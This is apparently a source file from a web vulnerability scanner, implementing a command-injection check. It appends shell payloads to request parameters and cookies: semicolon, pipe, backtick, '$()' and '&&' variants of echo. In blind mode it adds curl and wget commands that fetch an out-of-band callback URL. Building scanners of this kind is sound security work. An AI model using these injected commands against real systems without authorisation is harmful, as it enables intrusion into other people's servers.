// injection.command, proven two ways: the shell joins X''Y into XY where an echo of our own
// text would not (the output is on the page), or the command fetched an out-of-band callback URL
// (blind: the output goes nowhere). The delay probes of time_based_check are a third way.
#include "families.hpp"
#include "probe_text.hpp"

namespace ctc::scanner {
namespace {

class CommandInjectionCheck final : public ActiveCheck {
 public:
  bool wants(const InsertionPoint& point) const override {
    return point.isParameter() || point.kind == InputKind::Cookie;
  }

  void start(Attack& a) const override {
    std::string joined = a.marker() + "x" + a.marker();
    std::string echo = "echo " + a.marker() + "x''" + a.marker();
    const std::string& o = a.original();
    sendInTurn(a,
               {o + ";" + echo, o + "$(" + echo + ")", o + "|" + echo, o + "`" + echo + "`",
                o + "&&" + echo},
               "injection.command", [&a, joined](const FetchResult& r) {
                 if (!probe::newIn(r.response.body, a.baseline().body, joined))
                   return std::string();
                 return "the shell ran echo: " + probe::excerptAround(r.response.body, joined);
               });
    if (!a.options().outOfBand) return;
    for (const char* tpl : {"{o};curl {u};", "{o}$(wget -q -O- {u})"}) {
      auto [token, url] = a.options().outOfBand->newCallback();
      std::string value = probe::fillTemplate(tpl, o, 0);
      value.replace(value.find("{u}"), 3, url);
      HttpRequest request = a.target().with(value);
      a.callbacks.emplace_back(token, request);
      a.send("injection.command", request, [](const FetchResult&) {});
    }
  }

  void finish(Attack& a) const override {
    for (const auto& [token, request] : a.callbacks)
      if (auto hits = a.options().outOfBand->hits(token); !hits.empty()) {
        a.report("injection.command", request,
                 "the injected command fetched our callback URL: " + hits.front());
        return;
      }
  }
};

}  // namespace

std::unique_ptr<ActiveCheck> makeCommandInjectionCheck() {
  return std::make_unique<CommandInjectionCheck>();
}

}  // namespace ctc::scanner
